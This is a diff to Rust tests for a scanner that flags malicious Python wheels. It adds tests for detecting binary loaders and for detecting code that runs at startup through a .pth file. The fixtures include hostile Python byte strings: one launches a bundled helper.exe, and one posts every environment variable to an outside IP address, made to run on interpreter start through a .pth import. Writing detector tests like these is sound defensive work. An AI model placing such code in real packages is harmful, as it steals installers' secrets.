@@ -815,39 +815,100 @@ fn an_executable_with_a_loader_that_runs_on_import_is_high() {
 }
 
 /// The loader is found however much Python comes before it in the archive
-/// (the scan keeps no text while it reads, and reads the candidates again).
+/// (the scan keeps no text while it reads; it judges the candidates on a
+/// second read), and it is named for every executable of that file name.
 #[test]
 fn a_loader_after_many_megabytes_of_python_is_still_found() {
     let tmp = tempfile::tempdir().unwrap();
     let mut exe = b"MZ".to_vec();
     exe.resize(256, 0);
-    // One megabyte of plain code, nine times (analysed once: the same bytes).
+    // Eight files of plain code that fill the 8 MiB the scan once kept
+    // (analysed once: the same bytes), then a loader of more than the
+    // 4.6 KB left.
     let mut bulk = String::new();
     let mut i = 0;
-    while bulk.len() < 1_000_000 {
+    while bulk.len() < 1_048_000 {
         bulk.push_str(&format!("value_{i} = {i} * 2\n"));
         i += 1;
     }
-    let names: Vec<String> = (0..9).map(|i| format!("helper/bulk_{i}.py")).collect();
+    bulk.truncate(1_048_000);
+    let names: Vec<String> = (0..8).map(|i| format!("helper/bulk_{i}.py")).collect();
     let mut members: Vec<(&str, &[u8])> = names
         .iter()
         .map(|n| (n.as_str(), bulk.as_bytes()))
         .collect();
-    let loader: &[u8] = b"import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'helper.exe')])\n";
+    let mut loader = b"import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'helper.exe')])\n".to_vec();
+    loader.extend(b"# padding\n".repeat(600));
     members.extend([
-        ("helper/__init__.py", loader),
+        ("helper/__init__.py", &loader[..]),
         ("helper/helper.exe", &exe[..]),
+        ("helper/win32/helper.exe", &exe[..]),
         ("helper-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
     ]);
     let w = wheel(tmp.path(), "helper-1.0-py3-none-any.whl", &members);
     let (_, report) = scan(&w);
-    let finding = first_of(&report, "binary-payload");
-    assert_eq!(finding["severity"], "high", "{finding}");
+    let payloads: Vec<&serde_json::Value> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "binary-payload")
+        .collect();
+    assert_eq!(payloads.len(), 2, "{report}");
+    for finding in payloads {
+        assert_eq!(finding["severity"], "high", "{finding}");
+        assert!(
+            finding["evidence"]
+                .to_string()
+                .contains("helper/__init__.py:2"),
+            "{finding}"
+        );
+    }
+}
+
+/// A top-level module a `.pth` file imports runs at every start: judged as
+/// startup code even when the `.pth` comes after it in the archive, and
+/// once (not also as a module).
+#[test]
+fn a_module_a_later_pth_imports_is_judged_once_as_startup_code() {
+    let tmp = tempfile::tempdir().unwrap();
+    // Inert: the address is a documentation range and nothing here runs.
+    let module: &[u8] = b"import os, urllib.request\nurllib.request.urlopen('http://203.0.113.7/c', data=repr(dict(os.environ)).encode())\n";
+    let hooked = wheel(
+        tmp.path(),
+        "hooked-1.0-py3-none-any.whl",
+        &[
+            ("hookmod.py", module),
+            ("hooked-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
+            ("zz_hooked.pth", b"import hookmod\n"),
+        ],
+    );
+    let (_, report) = scan(&hooked);
+    let of_module: Vec<_> = rules(&report)
+        .into_iter()
+        .filter(|(_, _, path)| path == "hookmod.py")
+        .collect();
+    assert_eq!(
+        of_module,
+        vec![(
+            "exfiltration".to_string(),
+            "critical".to_string(),
+            "hookmod.py".to_string()
+        )],
+        "{report}"
+    );
+    // Without the `.pth`, the same module is an ordinary one.
+    let plain = wheel(
+        tmp.path(),
+        "plain-1.0-py3-none-any.whl",
+        &[
+            ("hookmod.py", module),
+            ("plain-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
+        ],
+    );
+    let (_, report) = scan(&plain);
     assert!(
-        finding["evidence"]
-            .to_string()
-            .contains("helper/__init__.py:2"),
-        "{finding}"
+        rules(&report).contains(&("exfiltration".into(), "high".into(), "hookmod.py".into())),
+        "{report}"
     );
 }
 
